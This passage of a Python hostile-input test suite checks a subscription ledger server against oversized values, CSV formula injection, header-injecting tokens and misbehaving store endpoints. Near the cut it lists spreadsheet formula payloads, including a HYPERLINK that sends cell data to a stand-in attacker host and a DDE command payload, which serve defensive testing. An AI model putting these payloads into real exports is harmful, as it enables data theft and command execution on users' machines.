#!/usr/bin/env python3
"""The hostile-input suite (issue 13): replays hostile requests against a real `subledger serve` and checks the
contract's answers. Money beyond the ceiling, oversized lists and identifiers, CSV formula injection, chunked
bodies above the limit, metrics of refused requests, NUL bytes in parameters, Unicode look-alike ids, the
statement timeout, a load of hostile connections next to ordinary traffic, an App Store notification signed
by an expired leaf, request bodies cut short, webhook destinations in every address spelling, outbound webhooks
that must not stall, and the store clients against stand-ins of Google and Apple gone bad (an access token with
CR LF, a JWKS failing under concurrent pushes, history that says hasMore with the same token forever). One line
per case (`hostile: ok  <case>` / `hostile: FAILED <case>: <why>`); after every
case the server must still run and answer /health. Exits 1 if any case failed.

Driven by tools/hostile (it creates the database and the keys); standard library only. The expected answers
are data (EXPECT_* tables and the constants below), so that they are easy to adjust."""
import argparse, base64, collections, csv, http.client, io, json, math, multiprocessing, os, re, select, shutil, signal
import http.server, socket, statistics, subprocess, sys, tempfile, threading, time, traceback, unicodedata, urllib.parse

# ----------------------------------------------------------------------------------------------- knobs
SUITE_SECONDS = 180            # the whole suite, server start to stop; a watchdog fails it beyond this
# Every time bound below is stated for a machine on which an ordinary append to the debug binary that tools/test
# runs takes REFERENCE_APPEND_SECONDS (median, one client). The suite measures that median first and stretches
# every bound by how much slower this machine is, at most MAX_STRETCH times: a shared CI machine running 2-3
# times slower failed a correct server on /health p99 and bystander appends otherwise. Never shrunk below 1.
REFERENCE_APPEND_SECONDS = 0.010
PACE_APPENDS = 30
MAX_STRETCH = 3.0
REQUEST_TIMEOUT = 10           # every HTTP request has a timeout (seconds); some cases use a tighter one
HEALTH_GRACE = 10              # after a case, /health must answer 200 within this many seconds
MAX_BODY_BYTES = 1048576       # serve --max-body-bytes
STATEMENT_TIMEOUT = "5s"       # serve --statement-timeout
MONEY_CEILING = 10 ** 15       # the largest accepted price_minor / amount_minor
BIG_PURCHASES = 20             # purchases at the ceiling before the reports are read
MAX_ENTITLEMENTS = 64          # per event
HUGE_ENTITLEMENTS = 20000      # refused quickly
HUGE_ENTITLEMENTS_SECONDS = 2.0
MAX_ID_BYTES = 200             # product_id, subscriber_id
MAX_IDEMPOTENCY_KEY_BYTES = 255
MAX_METADATA_BYTES = 16 * 1024
WINDOW_BATCHES = 3             # batches of WINDOW_BATCH_EVENTS purchases x MAX_ENTITLEMENTS windows, one subscriber
WINDOW_BATCH_EVENTS = 52       # 3 x 52 x 64 = 9,984 windows: just under the per-subscriber limit
MAX_WINDOWS_PER_SUBSCRIBER = 10000  # an append past it is 422 naming subscriber_id (docs/limits.md)
WINDOW_APPEND_BUDGET = 40      # seconds for appending those batches
WINDOW_PAGE_MAX = 1000         # GET .../windows answers at most this many per page
WINDOW_READ_SECONDS = 5.0      # GET .../windows and .../entitlements of that subscriber
OTHER_APPEND_SECONDS = 2.0     # appends to other subscribers while that one grows
CHUNKED_BODY_BYTES = 2 * 1024 * 1024
CHUNK_BYTES = 64 * 1024
LOAD_SECONDS = min(30.0, float(os.environ.get("SUBLEDGER_HOSTILE_LOAD_SECONDS", "20")))
LOAD_CONNECTIONS = min(500, int(os.environ.get("SUBLEDGER_HOSTILE_CONNECTIONS", "500")))
LOAD_REQUEST_TIMEOUT = 10      # a hostile request under load
LOAD_BURST_SECONDS = 15        # at most this long for every connection's first request to be answered; then measured
LOAD_BASELINE_APPENDS = 50     # ordinary appends measured before the load
LOAD_HEALTH_P99_MAX = 1.0      # seconds, /health during the load
LOAD_APPEND_FACTOR = 10        # ordinary appends' median during the load <= max(FACTOR x baseline median, FLOOR)
LOAD_APPEND_FLOOR = 0.5
# A third of the load is valid purchases with 64 entitlements each (the most one event may carry), from some 140
# connections sharing the ordinary appends' key: the server cannot tell them apart and serves them in order, so how
# long an ordinary append waits is about how long those take, which is the machine's and the build's speed (the
# debug binary's 64-entitlement append costs 5x a release one's), measured in tools/bench, not here. What is checked
# here is fairness: /health is not served worse than HEALTH_VS_HEAVY x the median of those heavy requests during
# the same load, and ordinary appends (light: the group committer takes them first) not worse than APPEND_VS_HEAVY
# x it, whichever of that and the absolute bounds above is larger. Measured (debug binary, 2 cores, after the
# burst): /health p99 0.07-0.1x and ordinary appends' median 0.12-0.2x the heavy median.
# The opening burst (every connection's first request at once) is served before anything is measured: it queued
# /health behind all of it for up to 5 s, which says how long the burst takes, not whether the server keeps
# serving. On a slower machine each connection pauses between requests (load_worker), so the load asks the same
# share of the machine; all 500 connections stay open. Checked with two and four CPU-bound processes beside it.
LOAD_HEALTH_VS_HEAVY = 1.0
LOAD_APPEND_VS_HEAVY = 0.5
LOAD_FAIL_ON_HOSTILE_500 = True  # a hostile request answered 500 internal (a server bug by the contract) fails too

A = argparse.ArgumentParser(description=__doc__.split("\n")[0])
A.add_argument("--bin", required=True, help="the subledger binary")
A.add_argument("--url", default=os.environ.get("SUBLEDGER_HOSTILE_URL"), help="database URL (default $SUBLEDGER_HOSTILE_URL)")
for _role in ("writer", "reader", "auditor", "analyst", "admin"):
    A.add_argument(f"--{_role}", default=os.environ.get(f"SUBLEDGER_HOSTILE_{_role.upper()}"),
                   help=f"a {_role} key (default $SUBLEDGER_HOSTILE_{_role.upper()})")
args = A.parse_args()
for _name in ("url", "writer", "reader", "auditor", "analyst", "admin"):
    if not getattr(args, _name):
        A.error(f"--{_name} (or its environment variable) is required")
KEYS = {r: getattr(args, r) for r in ("writer", "reader", "auditor", "analyst", "admin")}
T0 = time.monotonic()
DEADLINE = T0 + SUITE_SECONDS
STRETCH = 1.0  # set by measure_pace() before the cases run


def bound(seconds):
    """A time bound of the reference machine, stretched for this one."""
    return seconds * STRETCH


def say(*m):
    print("hostile:", *m, file=sys.stderr, flush=True)


def free_port():
    s = socket.socket(); s.bind(("127.0.0.1", 0)); p = s.getsockname()[1]; s.close(); return p


PORT = free_port()


# ----------------------------------------------------------------------------------------------- HTTP
class Resp:
    def __init__(self, status, headers=None, body=b"", elapsed=0.0, error=None):
        self.status, self.headers, self.body, self.elapsed, self.error = status, headers or {}, body, elapsed, error

    @property
    def json(self):
        try:
            return json.loads(self.body)
        except (ValueError, TypeError):
            return None

    @property
    def err(self):
        """(code, message, field) of a contract error body, else Nones."""
        j = self.json
        e = j.get("error") if isinstance(j, dict) else None
        if not isinstance(e, dict):
            return None, None, None
        return e.get("code"), e.get("message"), e.get("field")

    def brief(self):
        if self.status is None:
            return f"no answer ({self.error})"
        text = self.body[:300].decode("utf-8", "replace")
        return f"{self.status} {text}{'…' if len(self.body) > 300 else ''}"


def request(method, path, body=None, role=None, headers=None, timeout=REQUEST_TIMEOUT, port=None):
    """One request on a fresh connection. `body`: bytes, str, or a JSON value. Never raises."""
    h = {"Content-Type": "application/json"}
    if role:
        h["Authorization"] = f"Bearer {KEYS[role]}"
    h.update(headers or {})
    if body is not None and not isinstance(body, (bytes, str)):
        body = json.dumps(body, ensure_ascii=False)
    if isinstance(body, str):
        body = body.encode()
    t = time.monotonic()
    c = http.client.HTTPConnection("127.0.0.1", port or PORT, timeout=timeout)
    try:
        c.request(method, path, body=body, headers=h)
        r = c.getresponse()
        data = r.read()
        return Resp(r.status, {k.lower(): v for k, v in r.getheaders()}, data, time.monotonic() - t)
    except (OSError, http.client.HTTPException) as e:
        return Resp(None, elapsed=time.monotonic() - t, error=f"{type(e).__name__}: {e}")
    finally:
        c.close()


# ----------------------------------------------------------------------------------------------- server
class Server:
    def __init__(self, extra):
        self.extra, self.proc, self.log = extra, None, tempfile.NamedTemporaryFile(prefix="hostile-serve-", suffix=".log", delete=False)

    def start(self):
        self.proc = subprocess.Popen(
            [args.bin, "serve", "--database-url", args.url, "--port", str(PORT), "--log-level", "error",
             "--max-body-bytes", str(MAX_BODY_BYTES)] + self.extra,
            stdout=self.log, stderr=subprocess.STDOUT)
        for _ in range(300):
            if self.proc.poll() is not None:
                break
            if request("GET", "/health", timeout=1).status == 200:
                return True
            time.sleep(0.05)
        return False

    def alive(self):
        return self.proc is not None and self.proc.poll() is None

    def tail(self, n=15):
        try:
            with open(self.log.name, "rb") as f:
                return b"".join(f.readlines()[-n:]).decode("utf-8", "replace").rstrip()
        except OSError:
            return ""

    def stop(self):
        if self.alive():
            self.proc.terminate()
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill(); self.proc.wait()


def help_text(*sub):
    try:
        p = subprocess.run([args.bin, *sub, "--help"], capture_output=True, text=True, timeout=20)
        return p.stdout + p.stderr
    except (OSError, subprocess.TimeoutExpired) as e:
        return f"({e})"


SERVE_HELP = help_text("serve")
APPLE_HELP = help_text("apple-test-notification")
HAS_STATEMENT_TIMEOUT = "--statement-timeout" in SERVE_HELP
HAS_LEAF_NOT_AFTER = "--leaf-not-after" in APPLE_HELP
APPLE_CA = tempfile.mkdtemp(prefix="hostile-apple-ca-")


def apple_cli(*a):
    return subprocess.run([args.bin, "apple-test-notification", "--ca-dir", APPLE_CA, *a],
                          capture_output=True, text=True, timeout=30)


extra = ["--statement-timeout", STATEMENT_TIMEOUT] if HAS_STATEMENT_TIMEOUT else []
if HAS_LEAF_NOT_AFTER:
    # The test CA must exist before the server starts: it trusts the CA's root.
    try:
        apple_cli("--type", "TEST", "--transaction-id", "0", "--product-id", "hostile.apple",
                  "--purchase-date", "2026-01-01T00:00:00Z")
    except (OSError, subprocess.TimeoutExpired) as e:
        say(f"apple-test-notification: {e}")
    if os.path.exists(os.path.join(APPLE_CA, "root.der")):
        extra += ["--apple-root-cert", os.path.join(APPLE_CA, "root.der")]
HAS_STRIPE = "--stripe-webhook-secret" in SERVE_HELP
if HAS_STRIPE:
    extra += ["--stripe-webhook-secret", "whsec_hostile"]


# ----------------------------------------------------------------------------------------------- store stand-ins
# Google's token endpoint and JWKS and Apple's history endpoints as a broken or hostile remote side: an access
# token with CR LF in it, a JWKS that fails slowly, history that says hasMore with the same token forever.
STORE_SECRET = "SECRET-hostile-4711"   # inside the access token; must appear in no answer and no log
GOOGLE_PACKAGE = "com.hostile.app"
GOOGLE_AUDIENCE = "https://hostile.example/v1/stores/google/notifications"
GOOGLE_PUSHER = "pubsub-push@hostile.iam.gserviceaccount.com"
JWKS_DELAY = 1.0         # seconds each failing JWKS fetch is held
JWKS_PUSHES = 60         # concurrent pushes before any JWKS fetch succeeded
JWKS_MAX_FETCHES = 2     # outbound fetches those pushes may cause
PAGES_MAX_REQUESTS = 5   # history requests of one `apple backfill`/`apple sync` against an API repeating its token
PAGES_SECONDS = 15       # and the time it may take
STAND_IN_COUNTS = collections.Counter()
_stand_in_lock = threading.Lock()


class StoreStandIn(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def answer(self, what, status, body):
        with _stand_in_lock:
            STAND_IN_COUNTS[what] += 1
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        path = urllib.parse.urlsplit(self.path).path
        if path == "/certs":
            time.sleep(JWKS_DELAY)
            return self.answer("jwks", 503, {"error": {"code": 503, "status": "UNAVAILABLE"}})
        if path.startswith("/inApps/v2/history/"):
            return self.answer("apple", 200, {"revision": "same", "hasMore": True, "bundleId": GOOGLE_PACKAGE,
                                              "environment": "Production", "signedTransactions": []})
        self.answer("other", 404, {})

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        path = urllib.parse.urlsplit(self.path).path
        if path == "/token":
            return self.answer("token", 200, {"access_token": f"ya29.{STORE_SECRET}\r\nX-Injected: 1", "expires_in": 3599,
                                              "token_type": "Bearer"})
        if path == "/inApps/v1/notifications/history":
            return self.answer("apple", 200, {"hasMore": True, "paginationToken": "same", "notificationHistory": []})
        self.answer("other", 404, {})


STORE_KEYS = tempfile.mkdtemp(prefix="hostile-store-keys-")
STAND_IN_URL, APPLE_API_ARGS = None, []
if "--google-oidc-jwks" in SERVE_HELP and shutil.which("openssl"):
    try:
        rsa = subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048"],
                             capture_output=True, text=True, timeout=30, check=True).stdout
        ec = os.path.join(STORE_KEYS, "apple.p8")
        subprocess.run(["openssl", "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", ec],
                       capture_output=True, timeout=30, check=True)
        _stand_in = http.server.ThreadingHTTPServer(("127.0.0.1", 0), StoreStandIn)
        _stand_in.daemon_threads = True
        threading.Thread(target=_stand_in.serve_forever, daemon=True).start()
        STAND_IN_URL = f"http://127.0.0.1:{_stand_in.server_address[1]}"
        account = os.path.join(STORE_KEYS, "google.json")
        with open(account, "w") as f:
            json.dump({"type": "service_account", "client_email": "ledger@hostile.iam.gserviceaccount.com",
                       "private_key_id": "hostile-1", "private_key": rsa, "token_uri": f"{STAND_IN_URL}/token"}, f)
        extra += ["--google-package-name", GOOGLE_PACKAGE, "--google-service-account-file", account,
                  "--google-api-base-url", STAND_IN_URL, "--google-pubsub-audience", GOOGLE_AUDIENCE,
                  "--google-pubsub-service-account", GOOGLE_PUSHER, "--google-oidc-jwks", f"{STAND_IN_URL}/certs"]
        APPLE_API_ARGS = ["--apple-issuer-id", "hostile-issuer", "--apple-key-id", "HOSTILE001", "--apple-private-key", ec,
                          "--apple-bundle-id", GOOGLE_PACKAGE, "--apple-api-base-url", STAND_IN_URL]
    except (OSError, subprocess.SubprocessError) as e:
        say(f"store stand-ins: {e}")
        STAND_IN_URL = None
server = Server(extra)


def watchdog():
    say(f"FAILED suite: exceeded {bound(SUITE_SECONDS):.0f}s; stopping")
    try:
        if server.proc and server.proc.poll() is None:
            server.proc.kill()
    finally:
        os._exit(1)


_dog = None


def arm_watchdog(seconds):
    """(Re)starts the suite's watchdog to fire `seconds` from now."""
    global _dog
    if _dog:
        _dog.cancel()
    _dog = threading.Timer(max(1.0, seconds), watchdog)
    _dog.daemon = True
    _dog.start()


# Until the pace is measured, the longest the suite may take; measure_pace() sets the real one.
arm_watchdog(SUITE_SECONDS * MAX_STRETCH)

# ----------------------------------------------------------------------------------------------- events
PURCHASE_DATA = {"product_id": "pro.monthly", "entitlements": ["pro"], "transaction_id": "t1", "kind": "auto_renewable",
                 "period_start": "2026-03-01T10:00:00Z", "period_end": "2026-04-01T10:00:00Z", "period": "P1M",
                 "price_minor": 999, "currency": "USD", "commission_rate": "0.30"}
PRODUCT = {"entitlements": ["pro"], "kind": "auto_renewable", "period": "P1M", "price_minor": 999, "currency": "USD",
           "commission_rate": "0.30"}


def envelope(sub, type_, key, data, metadata=None, occurred="2026-03-01T10:00:00Z", source="hostile"):
    e = {"subscriber_id": sub, "type": type_, "occurred_at": occurred, "source": source, "environment": "production",
         "idempotency_key": key, "data": data}
    if metadata is not None:
        e["metadata"] = metadata
    return e


def purchase(sub, key=None, txn=None, **data):
    """A complete purchase; the transaction id defaults to the idempotency key, which defaults to `<sub>-buy`."""
    key = key or f"{sub}-buy"
    d = dict(PURCHASE_DATA, transaction_id=txn or key)
    d.update(data)
    return envelope(sub, "purchase", key, d, occurred=d.get("period_start") or "2026-03-01T10:00:00Z")


def credit(sub, key, reason="hostile", granted_by="hostile", entitlement="pro", metadata=None):
    return envelope(sub, "credit", key, {"entitlement": entitlement, "duration": "P7D", "reason": reason,
                                          "granted_by": granted_by}, metadata=metadata)


def q(s):
    """A path segment, percent-encoded (UTF-8)."""
    return urllib.parse.quote(s, safe="")


def stream(sub, role="auditor"):
    """The subscriber's stored events (list), or raise with the answer."""
    r = request("GET", f"/v1/subscribers/{q(sub)}/events?limit=1000", role=role)
    if r.status != 200 or not isinstance(r.json, dict):
        raise Check(f"GET /v1/subscribers/{sub}/events answered {r.brief()}")
    return r.json.get("events", [])


class Check(Exception):
    """A broken expectation: the case fails with this message."""


def mentions(text, name):
    """Whether an error message (or field) names `name`; `_` in the name also matches a space."""
    if not text:
        return False
    return re.search(re.escape(name).replace("_", "[_ ]"), text, re.IGNORECASE) is not None


def expect_error(r, status, code=None, names=(), what=""):
    """The answer is the contract's error with this status and code, whose message names each of `names`."""
    statuses = status if isinstance(status, (tuple, list, set)) else (status,)
    if r.status not in statuses:
        raise Check(f"{what}expected {'/'.join(map(str, statuses))}{' ' + code if code else ''}, got {r.brief()}")
    c, m, f = r.err
    if c is None or not m:
        raise Check(f"{what}expected a JSON error body {{\"error\": {{\"code\", \"message\"}}}}, got {r.brief()}")
    if code and c != code:
        raise Check(f"{what}expected code {code}, got {r.brief()}")
    for n in names:
        if not mentions(m, n):
            raise Check(f"{what}the message does not name {n!r}: {m!r} (field {f!r})")


def expect_status(r, status, what=""):
    statuses = status if isinstance(status, (tuple, list, set)) else (status,)
    if r.status not in statuses:
        raise Check(f"{what}expected {'/'.join(map(str, statuses))}, got {r.brief()}")


# ----------------------------------------------------------------------------------------------- cases
CASES = []


def case(name):
    def register(fn):
        CASES.append((name, fn)); return fn
    return register


RESULTS = []  # (name, ok, why)


def run_case(name, fn):
    t = time.monotonic()
    why, skip = None, None
    try:
        out = fn()
        if isinstance(out, str) and out.startswith("skip"):
            skip = out
    except Check as e:
        why = str(e)
    except Exception as e:  # a bug in the suite or an unexpected answer shape: still a failure, with a trace
        why = f"{type(e).__name__}: {e} [{traceback.format_exc(limit=3).strip().splitlines()[-2].strip()}]"
    # The server must never exit, and must answer /health, whatever the request.
    alive_why = None
    if not server.alive():
        alive_why = f"the server exited (status {server.proc.returncode}) — log: {server.tail(5)}"
    else:
        until = time.monotonic() + HEALTH_GRACE
        while True:
            h = request("GET", "/health", timeout=5)
            if h.status == 200:
                break
            if not server.alive():
                alive_why = f"the server exited (status {server.proc.returncode}) — log: {server.tail(5)}"
                break
            if time.monotonic() > until:
                alive_why = f"/health answered {h.brief()} after the case"
                break
            time.sleep(0.2)
    if alive_why:
        why = f"{why}; {alive_why}" if why else alive_why
    took = time.monotonic() - t
    if skip and not why:
        say(skip)
        RESULTS.append((name, True, skip))
    elif why:
        say(f"FAILED {name}: {why} ({took:.1f}s)")
        RESULTS.append((name, False, why))
    else:
        say(f"ok  {name} ({took:.1f}s)")
        RESULTS.append((name, True, None))
    if not server.alive():
        say("restarting the server for the remaining cases")
        if not server.start():
            say(f"FAILED restart: the server did not start again — log: {server.tail()}")
            finish(abort=True)


# 8. The statement timeout is configurable (and configured: the server was started with it).
@case("statement-timeout: serve --help lists --statement-timeout")
def _statement_timeout():
    if not HAS_STATEMENT_TIMEOUT:
        raise Check("serve --help does not list --statement-timeout (the server was started without it)")


# 1. Money ceiling. Each entry: case name, event (or catalog body), expected status, code, names in the message.
EXPECT_MONEY = [
    ("money: price_minor 2^63-1 refused", lambda: purchase("hostile-money-max", price_minor=9223372036854775807),
     422, "invalid_event", ["price_minor"]),
    ("money: price_minor 10^15+1 refused", lambda: purchase("hostile-money-over", price_minor=MONEY_CEILING + 1),
     422, "invalid_event", ["price_minor"]),
    ("money: price_minor -10^15-1 refused", lambda: purchase("hostile-money-neg", price_minor=-MONEY_CEILING - 1),
     422, "invalid_event", ["price_minor"]),
    ("money: price_minor 10^15 accepted", lambda: purchase("hostile-money-ceiling", price_minor=MONEY_CEILING),
     201, None, []),
    ("money: refund amount_minor 10^15+1 refused",
     lambda: envelope("hostile-money-ceiling", "refund", "hostile-money-refund", {
         "transaction_id": "hostile-money-ceiling-buy", "amount_minor": MONEY_CEILING + 1, "currency": "USD",
         "reason": "customer"}, occurred="2026-03-10T00:00:00Z"),
     422, "invalid_event", ["amount_minor"]),
]


def money_case(name, make, status, code, names):
    def run():
        ev = make()
        sub = ev["subscriber_id"]
        before = len(stream(sub))
        r = request("POST", "/v1/events", ev, role="writer")
        if status >= 400:
            expect_error(r, status, code, names)
            after = stream(sub)
            if len(after) != before:
                raise Check(f"the refused event was stored ({before} events before, {len(after)} after)")
        else:
            expect_status(r, status)
    return run


for _entry in EXPECT_MONEY:
    case(_entry[0])(money_case(*_entry))


CATALOG_ERROR_CODE = None  # any code: docs/api.md said invalid_request for catalog bodies, the fix may say invalid_event


@case("money: catalog price_minor 2^63-1 refused")
def _catalog_money():
    body = dict(PRODUCT, price_minor=9223372036854775807)
    r = request("PUT", "/v1/catalog/products/big", body, role="admin")
    expect_error(r, 422, CATALOG_ERROR_CODE, ["price_minor"])
    g = request("GET", "/v1/catalog/products/big", role="admin")
    if g.status != 404:
        raise Check(f"the refused product was stored: GET answered {g.brief()}")


# Reports over purchases at the ceiling: daily and weekly periods, so MRR normalisation multiplies them.
REPORTS = [
    ("revenue", "/v1/reports/revenue?from=2026-01-01&to=2026-06-01", {}),
    ("revenue CSV", "/v1/reports/revenue?from=2026-01-01&to=2026-06-01", {"Accept": "text/csv"}),
    ("revenue daily", "/v1/reports/revenue?from=2026-03-01&to=2026-04-01&interval=day", {}),
    ("mrr", "/v1/reports/mrr?at=2026-03-15T00:00:00Z", {}),
    ("mrr CSV", "/v1/reports/mrr?at=2026-03-15T00:00:00Z", {"Accept": "text/csv"}),
    ("churn", "/v1/reports/churn?from=2026-01-01&to=2026-06-01", {}),
    ("retention", "/v1/reports/retention?from=2026-01-01&to=2026-06-01", {}),
    ("trials", "/v1/reports/trials?from=2026-01-01&to=2026-06-01", {}),
]


@case(f"money: reports over {BIG_PURCHASES} purchases at 10^15 answer 200")
def _money_reports():
    events = []
    for i in range(BIG_PURCHASES):
        if i % 2:
            span = dict(period="P1D", period_start="2026-03-14T12:00:00Z", period_end="2026-03-15T12:00:00Z")
        else:
            span = dict(period="P1W", period_start="2026-03-10T00:00:00Z", period_end="2026-03-17T00:00:00Z")
        events.append(purchase(f"hostile-big-{i}", key=f"hostile-big-{i}", price_minor=MONEY_CEILING, **span))
    r = request("POST", "/v1/events", {"events": events}, role="writer", timeout=30)
    problems = [] if r.status == 201 else [f"appending the purchases answered {r.brief()}"]
    for what, path, headers in REPORTS:
        r = request("GET", path, role="analyst", headers=headers, timeout=30)
        if r.status != 200:
            problems.append(f"{what}: {r.brief()}")
        elif "Accept" not in headers and not isinstance(r.json, dict):
            problems.append(f"{what}: not a JSON object: {r.brief()}")
        elif what == "mrr":
            for c in r.json.get("currencies", []):
                if not isinstance(c.get("mrr_minor"), int) or c["mrr_minor"] < 0:
                    problems.append(f"mrr: mrr_minor {c.get('mrr_minor')!r} is not a non-negative integer")
    if problems:
        raise Check("; ".join(problems))


# 2. Sizes. Each entry: case name, event, expected status, code, names in the message, seconds allowed (or None).
ENTS = [f"e{i:02d}" for i in range(MAX_ENTITLEMENTS)]
EXPECT_SIZES = [
    (f"sizes: {HUGE_ENTITLEMENTS} entitlements refused quickly",
     lambda: purchase("hostile-ents-huge", entitlements=[f"e{i:05d}" for i in range(HUGE_ENTITLEMENTS)]),
     422, "invalid_event", ["entitlements"], HUGE_ENTITLEMENTS_SECONDS),
    (f"sizes: {MAX_ENTITLEMENTS + 1} entitlements refused",
     lambda: purchase("hostile-ents-over", entitlements=ENTS + ["e64"]), 422, "invalid_event", ["entitlements"], None),
    (f"sizes: {MAX_ENTITLEMENTS} entitlements accepted",
     lambda: purchase("hostile-ents-max", entitlements=ENTS), 201, None, [], None),
    (f"sizes: product_id of {MAX_ID_BYTES + 1} bytes refused",
     lambda: purchase("hostile-long-product", product_id="p" * (MAX_ID_BYTES + 1)), 422, "invalid_event", ["product_id"], None),
    (f"sizes: idempotency_key of {MAX_IDEMPOTENCY_KEY_BYTES + 1} bytes refused",
     lambda: purchase("hostile-long-key", key="k" * (MAX_IDEMPOTENCY_KEY_BYTES + 1)), 422, "invalid_event",
     ["idempotency_key"], None),
    (f"sizes: subscriber_id of {MAX_ID_BYTES + 1} bytes refused",
     lambda: purchase("s" * (MAX_ID_BYTES + 1), key="hostile-long-sub"), 422, "invalid_event", ["subscriber_id"], None),
    (f"sizes: metadata above {MAX_METADATA_BYTES // 1024} KiB refused",
     lambda: dict(purchase("hostile-big-metadata"), metadata={"x": "a" * (MAX_METADATA_BYTES + 1000)}),
     422, "invalid_event", ["metadata"], None),
]


def size_case(name, make, status, code, names, seconds):
    def run():
        ev = make()
        sub = ev["subscriber_id"]
        checkable = len(sub.encode()) <= MAX_ID_BYTES
        before = len(stream(sub)) if checkable and status >= 400 else 0
        r = request("POST", "/v1/events", ev, role="writer", timeout=max(REQUEST_TIMEOUT, (seconds or 0) * 3))
        if status >= 400:
            expect_error(r, status, code, names)
            if checkable and len(stream(sub)) != before:
                raise Check("the refused event was stored")
        else:
            expect_status(r, status)
        if seconds is not None and r.elapsed > bound(seconds):
            raise Check(f"answered in {r.elapsed:.2f}s, more than {bound(seconds):.2f}s")
    return run


for _entry in EXPECT_SIZES:
    case(_entry[0])(size_case(*_entry))


MANY = "hostile-many-windows"
MANY_STORED = [0]  # windows the batches below stored for MANY


@case(f"sizes: {WINDOW_BATCHES * WINDOW_BATCH_EVENTS * MAX_ENTITLEMENTS} windows for one subscriber, others keep answering")
def _many_windows_append():
    stop = threading.Event()
    others = []  # (status, seconds)

    def other_appends():
        i = 0
        while not stop.is_set():
            sub = f"hostile-bystander-{i}"
            r = request("POST", "/v1/events", purchase(sub, key=sub), role="writer", timeout=REQUEST_TIMEOUT)
            others.append((r.status, r.elapsed)); i += 1
            stop.wait(0.1)

    t = threading.Thread(target=other_appends, daemon=True)
    t.start()
    problems, start, day = [], time.monotonic(), 0
    try:
        for b in range(WINDOW_BATCHES):
            batch = []
            for _ in range(WINDOW_BATCH_EVENTS):
                s = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(1577872800 + day * 86400))  # 2020-01-01T10:00Z + day
                e = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(1577872800 + (day + 1) * 86400))
                batch.append(purchase(MANY, key=f"{MANY}-{day}", entitlements=ENTS, period="P1D", period_start=s,
                                      period_end=e, price_minor=99))
                day += 1
            left = bound(WINDOW_APPEND_BUDGET) - (time.monotonic() - start)
            if left <= 0:
                problems.append(f"appending took more than {bound(WINDOW_APPEND_BUDGET):.0f}s; stopped after {b} batches"); break
            r = request("POST", "/v1/events", {"events": batch}, role="writer", timeout=max(1.0, left))
            if r.status != 201:
                problems.append(f"batch {b} answered {r.brief()} after {r.elapsed:.1f}s"); break
            MANY_STORED[0] += WINDOW_BATCH_EVENTS * MAX_ENTITLEMENTS
        if MANY_STORED[0] + MAX_ENTITLEMENTS > MAX_WINDOWS_PER_SUBSCRIBER:
            s = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(1577872800 + day * 86400))
            e = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(1577872800 + (day + 1) * 86400))
            over = purchase(MANY, key=f"{MANY}-over", entitlements=ENTS, period="P1D", period_start=s, period_end=e,
                            price_minor=99)
            r = request("POST", "/v1/events", over, role="writer", timeout=REQUEST_TIMEOUT)
            field = r.err[2]
            if r.status != 422 or field != "subscriber_id":
                problems.append(f"an append past {MAX_WINDOWS_PER_SUBSCRIBER} windows answered {r.brief()} (want 422 on subscriber_id)")
    finally:
        stop.set(); t.join(timeout=REQUEST_TIMEOUT + 2)
    slow = [(s, round(e, 2)) for s, e in others if s != 201 or e > bound(OTHER_APPEND_SECONDS)]
    if not others:
        problems.append("no append to another subscriber completed meanwhile")
    elif slow:
        problems.append(f"{len(slow)} of {len(others)} appends to other subscribers failed or took > {bound(OTHER_APPEND_SECONDS):.2f}s"
                        f" (status, seconds): {slow[:5]}")
    if problems:
        raise Check("; ".join(problems))


@case(f"sizes: windows of that subscriber are paged (<= {WINDOW_PAGE_MAX}, next_after) within {WINDOW_READ_SECONDS:g}s")
def _many_windows_read():
    r = request("GET", f"/v1/subscribers/{MANY}/windows", role="reader", timeout=REQUEST_TIMEOUT * 2)
    if r.status != 200:
        raise Check(f"GET windows answered {r.brief()} after {r.elapsed:.1f}s")
    problems = []
    if r.elapsed > bound(WINDOW_READ_SECONDS):
        problems.append(f"GET windows took {r.elapsed:.2f}s (at most {bound(WINDOW_READ_SECONDS):.1f}s)")
    body = r.json
    page = body.get("windows", [])
    if len(page) > WINDOW_PAGE_MAX:
        problems.append(f"GET windows answered {len(page)} windows in one page")
    nxt = body.get("next_after")
    if MANY_STORED[0] <= WINDOW_PAGE_MAX:
        problems.append(f"only {MANY_STORED[0]} windows were stored (see the case above): paging not checked")
    elif not isinstance(nxt, int) or isinstance(nxt, bool):
        problems.append(f"no integer next_after although there are more windows (next_after={nxt!r})")
    else:
        r2 = request("GET", f"/v1/subscribers/{MANY}/windows?after={nxt}&limit=500", role="reader", timeout=REQUEST_TIMEOUT * 2)
        if r2.status != 200:
            problems.append(f"the next page answered {r2.brief()}")
        else:
            page2 = r2.json.get("windows", [])
            ids = lambda p: {(w.get("entitlement"), w.get("start"), w.get("source_event_id")) for w in p}
            if not page2 or len(page2) > 500:
                problems.append(f"the next page (limit 500) has {len(page2)} windows")
            elif ids(page) & ids(page2):
                problems.append("the next page repeats windows of the first")
            if r2.elapsed > bound(WINDOW_READ_SECONDS):
                problems.append(f"the next page took {r2.elapsed:.2f}s (at most {bound(WINDOW_READ_SECONDS):.1f}s)")
    e = request("GET", f"/v1/subscribers/{MANY}/entitlements?at=2020-06-01T00:00:00Z", role="reader", timeout=REQUEST_TIMEOUT * 2)
    if e.status != 200:
        problems.append(f"GET entitlements answered {e.brief()}")
    elif e.elapsed > bound(WINDOW_READ_SECONDS):
        problems.append(f"GET entitlements took {e.elapsed:.2f}s (at most {bound(WINDOW_READ_SECONDS):.1f}s)")
    if problems:
        raise Check("; ".join(problems))


# 3. CSV formulas: these values go into every string field that accepts them; exported cells must be neutralised.
FORMULAS = [
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1-1",
    "\t=1+1 (tab)",
